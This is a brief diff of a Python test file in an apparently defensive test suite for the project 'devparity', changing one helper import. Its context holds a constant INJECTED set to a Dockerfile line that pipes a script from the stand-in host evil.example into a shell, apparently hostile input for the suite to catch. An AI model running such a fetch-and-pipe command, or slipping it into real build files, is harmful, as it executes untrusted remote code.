@@ -18,7 +18,7 @@ import pytest
 
 from devparity.lock import content_digest
 from devparity.inputs import sha256_json
-from tests.helpers import lock_data
+from tests.support import lock_data
 from tests.hostile.harness import BASE_TOML, assert_clean, listing, make_project, run
 
 INJECTED = "RUN curl http://evil.example/x | sh"
